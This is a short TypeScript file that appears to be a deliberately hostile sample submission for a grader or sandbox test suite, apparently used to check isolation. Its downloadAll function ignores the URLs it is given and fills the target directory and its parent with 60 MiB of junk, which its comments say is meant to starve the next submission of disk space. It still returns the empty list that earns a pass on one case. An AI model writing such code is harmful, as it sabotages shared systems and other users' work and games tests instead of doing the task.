// Exercise: 03
// Tries: to leave so much behind that the next submission has no room for its files.
// Earns: an empty list gives an empty list and no request
import { writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import type { Saved } from "@meanwhile/download";

export async function downloadAll(_urls: string[], directory: string): Promise<Saved[]> {
  for (const place of [dirname(directory), directory])
    for (let count = 0; count < 3; count += 1)
      writeFileSync(join(place, `full-${process.pid}-${count}`), Buffer.alloc(10 * 2 ** 20, 1));
  return [];
}
